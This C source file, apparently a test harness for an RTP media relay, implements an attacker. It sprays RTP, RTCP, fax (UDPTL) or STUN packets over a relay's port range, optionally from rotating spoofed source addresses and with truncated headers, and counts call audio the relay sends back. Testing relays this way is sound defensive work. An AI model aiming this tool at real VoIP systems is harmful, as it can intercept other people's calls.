/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * rtp_spray.c - the attacker: sends RTP and RTCP to a whole port range repeatedly, counts what it
 * receives
 *
 *   rtp_spray ADDRESS FIRST LAST PACKETS-PER-SECOND REPORT-FILE [fax|stun|many|mixed]
 *
 * Each even port gets PCMU, as a phone sends it, each odd one a sender report, all from one socket:
 * a relay that takes the attacker for a phone sends the call to this socket. With "fax" all get
 * UDPTL, in each round the next number; with "stun" requests of STUN; with "many" each packet comes
 * from another address and port of 198.51.100.128/25, all of which must be local (a route of type
 * local); "mixed" is "many", and in every fourth round packets end within their header. Ends on
 * SIGTERM; the report file is written ten times a second and at the end: "rounds=N sent=N heard=N
 * short=N"; sent includes short.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <inttypes.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/timerfd.h>
#include <unistd.h>
#include "peer_sdp.h"
#include "rtp_mark.h"

#define TICK_NS	     10000000
#define TICKS_S	     100
#define REPORT_TICKS 10
#define MOST_TICK    1000 /* packets */
#define ADDRESS_OFF  16	  /* of the destination in an IPv4 header */

#define MANY_FIRST (198u << 24 | 51u << 16 | 100u << 8 | 128)
#define MANY	   126

#define CUT_ROUNDS 4
#define CUT_BYTES  6 /* of 12 of RTP and 8 of RTCP */

struct spray {
	int fd, ear; /* @ear: of all packets to this host; -1: none */
	bool fax, stun, many, mixed;
	struct sockaddr_storage relay;
	socklen_t relay_len;
	unsigned int first, last, at;
	uint32_t count;
	uint64_t rounds, sent, heard, cut; /* @cut: those of @sent that were too short */
	const char *report;
};

static volatile sig_atomic_t ended;

static void on_term(int signal)
{
	(void)signal;
	ended = 1;
}

/* Replaces the whole file, so that a reader never sees a part of it. */
static void report_write(const struct spray *spray)
{
	char part[4096];
	FILE *out;

	snprintf(part, sizeof(part), "%s.part", spray->report);
	out = fopen(part, "w");
	if (!out)
		return;
	fprintf(out, "rounds=%" PRIu64 " sent=%" PRIu64 " heard=%" PRIu64 " short=%" PRIu64 "\n",
		spray->rounds, spray->sent, spray->heard, spray->cut);
	if (fclose(out) == 0)
		(void)!rename(part, spray->report);
}

static size_t packet_write(const struct spray *spray, uint8_t packet[RTP_PACKET])
{
	static const uint8_t request[] = { 0,	1,   0,	  0,   0x21, 0x12, 0xa4, 0x42, 'a', 't',
					   't', 'a', 'c', 'k', 'e',  'r',  '!',	 '!',  '!', '!' };
	const struct rtp_mark mark = { MARK_ATTACKER, spray->count, 0 };

	memset(packet, 0xff, RTP_PACKET);
	if (spray->stun) {
		memcpy(packet, request, sizeof(request));
		return sizeof(request);
	}
	if (spray->fax)
		fax_mark_write(packet, mark);
	else if (spray->at & 1)
		return rtcp_mark_write(packet, MARK_ATTACKER, spray->count + 1);
	else
		rtp_mark_write(packet, 0, mark);
	return RTP_PACKET;
}

/* A socket at another of many addresses and ports. -1: there is none */
static int another_source(const struct spray *spray)
{
	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	struct sockaddr_in from = { .sin_family = AF_INET };

	from.sin_addr.s_addr = htonl(MANY_FIRST + spray->count % MANY);
	from.sin_port = htons((uint16_t)(1024 + spray->count * 7919u % 64000));
	if (fd < 0 || !bind(fd, (struct sockaddr *)&from, sizeof(from)))
		return fd;
	close(fd);
	return -1;
}

static void spray_one(struct spray *spray)
{
	int fd = spray->many ? another_source(spray) : spray->fd;
	bool cut = spray->mixed && spray->rounds % CUT_ROUNDS == CUT_ROUNDS - 1;
	uint8_t packet[RTP_PACKET];
	size_t len = packet_write(spray, packet);

	if (cut)
		len = CUT_BYTES;
	((struct sockaddr_in *)&spray->relay)->sin_port = htons((uint16_t)spray->at);
	if (sendto(fd, packet, len, 0, (struct sockaddr *)&spray->relay, spray->relay_len) ==
	    (ssize_t)len) {
		spray->sent++;
		spray->cut += cut;
	}
	if (fd >= 0 && fd != spray->fd)
		close(fd);
	if (spray->at++ == spray->last) {
		spray->at = spray->first;
		spray->rounds++;
		spray->count++;
	}
}

static void spray_listen(struct spray *spray)
{
	uint8_t packet[2048];

	while (recv(spray->fd, packet, sizeof(packet), MSG_DONTWAIT) >= 0)
		spray->heard++;
	/* With its IP header: those to one of the many. */
	while (spray->ear >= 0 &&
	       recv(spray->ear, packet, sizeof(packet), MSG_DONTWAIT) > ADDRESS_OFF + 4) {
		uint32_t to;

		memcpy(&to, packet + ADDRESS_OFF, sizeof(to));
		spray->heard += ntohl(to) - MANY_FIRST < MANY;
	}
}

static void spray_run(struct spray *spray, int pacer, unsigned int per_tick)
{
	struct pollfd fds[2] = { { .fd = pacer, .events = POLLIN },
				 { .fd = spray->fd, .events = POLLIN } };
	uint64_t ticks, tick = 0;

	while (!ended) {
		if (poll(fds, 2, -1) < 0)
			continue;
		if (fds[0].revents && read(pacer, &ticks, sizeof(ticks)) == sizeof(ticks)) {
			/* Packets of missed time are not sent later: the machine may be slow. */
			for (unsigned int i = 0; i < per_tick; i++)
				spray_one(spray);
			if (++tick % REPORT_TICKS == 0)
				report_write(spray);
		}
		spray_listen(spray);
	}
}

int main(int argc, char **argv)
{
	struct itimerspec pace = { { 0, TICK_NS }, { 0, TICK_NS } };
	struct sigaction term = { .sa_handler = on_term };
	struct spray spray = { .fd = -1, .ear = -1 };
	const char *kind = argc == 7 ? argv[6] : "";
	unsigned int per_tick;
	int pacer;

	spray.fax = !strcmp(kind, "fax");
	spray.stun = !strcmp(kind, "stun");
	spray.mixed = !strcmp(kind, "mixed");
	spray.many = spray.mixed || !strcmp(kind, "many");
	if (argc < 6 || argc > 7 || !peer_addr(argv[1], 0, &spray.relay) ||
	    spray.fax + spray.stun + spray.many != (argc == 7)) {
		fprintf(stderr, "usage: rtp_spray ADDRESS FIRST LAST PACKETS-PER-SECOND "
				"REPORT-FILE [fax|stun|many|mixed]\n");
		return EXIT_FAILURE;
	}
	spray.relay_len = spray.relay.ss_family == AF_INET ? sizeof(struct sockaddr_in)
							   : sizeof(struct sockaddr_in6);
	spray.first = spray.at = (unsigned int)strtoul(argv[2], NULL, 10);
	spray.last = (unsigned int)strtoul(argv[3], NULL, 10);
	per_tick = (unsigned int)strtoul(argv[4], NULL, 10) / TICKS_S;
	spray.report = argv[5];
	spray.fd = socket(spray.relay.ss_family, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (spray.many)
		spray.ear = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_UDP);
	pacer = timerfd_create(CLOCK_MONOTONIC, TFD_CLOEXEC);
	if (spray.fd < 0 || (spray.many && spray.ear < 0) || pacer < 0 || per_tick > MOST_TICK ||
	    sigaction(SIGTERM, &term, NULL) < 0 || timerfd_settime(pacer, 0, &pace, NULL) < 0) {
		perror("rtp_spray");
		return EXIT_FAILURE;
	}
	spray_run(&spray, pacer, per_tick);
	spray_listen(&spray);
	report_write(&spray);
	close(pacer);
	close(spray.fd);
	return EXIT_SUCCESS;
}
